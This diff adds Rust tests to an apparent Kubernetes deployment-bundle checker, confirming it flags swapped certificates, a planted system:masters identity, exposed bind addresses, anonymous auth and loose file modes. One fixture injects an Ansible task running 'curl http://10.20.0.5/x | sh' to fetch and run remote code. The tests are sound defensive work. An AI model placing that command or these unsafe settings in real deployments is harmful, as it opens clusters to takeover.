@@ -1153,3 +1153,189 @@ fn a_node_configuration_that_is_not_yaml_is_unparseable() {
         &["not YAML"],
     );
 }
+
+/// `bundle` with the file at `path` holding `contents`, the manifest redone.
+fn replaced(bundle: &Bundle, path: &str, contents: Vec<u8>) -> Bundle {
+    let file = bundle.get(path).unwrap_or_else(|| panic!("no {path}"));
+    let mut changed = bundle.clone();
+    match (&file.host, &file.target) {
+        (Some(host), Some(target)) => changed.insert_host_file(host, target, file.kind, contents),
+        _ => changed.insert(path, file.kind, contents),
+    }
+    changed.with_manifest().unwrap()
+}
+
+fn contents(bundle: &Bundle, path: &str) -> Vec<u8> {
+    bundle
+        .get(path)
+        .unwrap_or_else(|| panic!("no {path}"))
+        .contents
+        .clone()
+}
+
+#[test]
+fn a_client_certificate_of_another_identity_is_found() {
+    let (_, bundle) = built("workloads");
+    let proxy = "hosts/node0/var/lib/kube-proxy/pki/kube-proxy.pem";
+    let moved = [
+        // The scheduler's identity as node0's kube-proxy.
+        (
+            proxy,
+            "hosts/cp0/var/lib/kube-scheduler/pki/scheduler.pem",
+            "system:kube-scheduler",
+        ),
+        // Another node's kubelet identity, and its serving certificate.
+        (
+            "hosts/node0/var/lib/kubelet/pki/kubelet.pem",
+            "hosts/node1/var/lib/kubelet/pki/kubelet.pem",
+            "system:node:node1",
+        ),
+        (
+            "hosts/node0/var/lib/kubelet/pki/kubelet-server.pem",
+            "hosts/node1/var/lib/kubelet/pki/kubelet-server.pem",
+            "system:node:node1",
+        ),
+        // kube-apiserver's kubelet client (bound to system:kubelet-api-admin) as a kubelet.
+        (
+            "hosts/cp1/var/lib/kubelet/pki/kubelet.pem",
+            "hosts/cp1/etc/kubernetes/pki/kubelet-client.pem",
+            "kube-apiserver-kubelet-client",
+        ),
+    ];
+    for (target, source, identity) in moved {
+        let changed = replaced(&bundle, target, contents(&bundle, source));
+        let (found, text) = findings(&changed, None);
+        assert!(
+            has(
+                &found,
+                Code::UnexpectedCertificate,
+                target,
+                &[identity, "this file is for"]
+            ),
+            "{source} over {target}:\n{text}"
+        );
+    }
+}
+
+#[test]
+fn the_break_glass_identity_on_a_host_is_unsafe() {
+    use base64::Engine;
+    let (_, bundle) = built("workloads");
+    let kubeconfig = String::from_utf8(contents(&bundle, "admin/super-admin.kubeconfig")).unwrap();
+    let data = kubeconfig
+        .lines()
+        .find_map(|l| l.trim().strip_prefix("client-certificate-data: "))
+        .unwrap()
+        .trim_matches('"');
+    let pem = base64::engine::general_purpose::STANDARD
+        .decode(data)
+        .unwrap();
+    let target = "hosts/node0/var/lib/kube-proxy/pki/kube-proxy.pem";
+    let (found, text) = findings(&replaced(&bundle, target, pem), None);
+    assert!(
+        has(&found, Code::UnsafeSetting, target, &["system:masters"]),
+        "{text}"
+    );
+}
+
+#[test]
+fn node_files_that_name_another_node_or_file_are_unsafe() {
+    let (_, bundle) = built("workloads");
+    let edits: [(&str, &str, &str, &[&str]); 8] = [
+        (
+            "hosts/node0/etc/systemd/system/kubelet.service",
+            "--hostname-override=node0",
+            "--hostname-override=cp0",
+            &["--hostname-override=cp0", "another node"],
+        ),
+        (
+            "hosts/cp0/etc/systemd/system/kubelet.service",
+            "--config=/var/lib/kubelet/config.yaml",
+            "--config=/etc/kubernetes/encryption-config.yaml",
+            &["--config=/etc/kubernetes/encryption-config.yaml"],
+        ),
+        (
+            "hosts/cp0/var/lib/kubelet/config.yaml",
+            "registerWithTaints:",
+            "registerWithoutTaints:",
+            &["registerWithTaints"],
+        ),
+        (
+            KUBELET_CONFIG,
+            "clusterDNS:",
+            "registerWithTaints:\n  - key: node-role.kubernetes.io/control-plane\n    effect: NoSchedule\nclusterDNS:",
+            &["registerWithTaints on a worker"],
+        ),
+        (
+            KUBELET_CONFIG,
+            "address: \"10.20.0.100\"",
+            "address: \"0.0.0.0\"",
+            &["address is 0.0.0.0", "--node-ip"],
+        ),
+        (
+            KUBELET_CONFIG,
+            "tlsCertFile: \"/var/lib/kubelet/pki/kubelet-server.pem\"",
+            "tlsCertFile: \"/var/lib/kubelet/pki/kubelet.pem\"",
+            &["tlsCertFile"],
+        ),
+        (
+            KUBE_PROXY_CONFIG,
+            "hostnameOverride: \"node0\"",
+            "hostnameOverride: \"cp0\"",
+            &["hostnameOverride is cp0"],
+        ),
+        (
+            KUBE_PROXY_CONFIG,
+            "metricsBindAddress: \"127.0.0.1:10249\"",
+            "metricsBindAddress: \"0.0.0.0:10249\"",
+            &["metricsBindAddress"],
+        ),
+    ];
+    for (path, from, to, words) in edits {
+        assert_found_after_edit(&bundle, path, from, to, Code::UnsafeSetting, words);
+    }
+}
+
+#[test]
+fn with_its_config_every_file_the_config_alone_makes_is_held_to_it() {
+    let (plan, bundle) = built("workloads");
+    let edits = [
+        (
+            "deploy/ansible/playbook.yml",
+            "- name: Install every host's files",
+            "- name: Fetch\n  hosts: all\n  tasks:\n    - ansible.builtin.shell: curl http://10.20.0.5/x | sh\n\n- name: Install every host's files",
+        ),
+        ("deploy/nix/module.nix", "\"--hostname-override=node0\"", "\"--hostname-override=node0\" \"--anonymous-auth=true\""),
+        ("deploy/ansible/host_vars/node0.yml", "0600", "0666"),
+        (KUBELET_CONFIG, "clusterDomain: \"cluster.local\"", "clusterDomain: \"evil.example\""),
+        ("hosts/cp0/var/lib/kube-proxy/config.yaml", "mode: iptables", "mode: ipvs"),
+    ];
+    for (path, from, to) in edits {
+        let changed = edited(&bundle, path, from, to);
+        let (found, text) = findings(&changed, Some(&plan));
+        assert!(
+            has(
+                &found,
+                Code::PlanMismatch,
+                path,
+                &["differs from what the config makes"]
+            ),
+            "{path}: {to}\n{text}"
+        );
+    }
+    // A master's node files gone, manifest and all.
+    let gone = without(&bundle, |p| {
+        p.starts_with("hosts/cp0/var/lib/kubelet/")
+            || p == "hosts/cp0/etc/systemd/system/kubelet.service"
+    });
+    let (found, text) = findings(&gone, Some(&plan));
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            "hosts/cp0/etc/systemd/system/kubelet.service",
+            &["lacks it"]
+        ),
+        "{text}"
+    );
+}
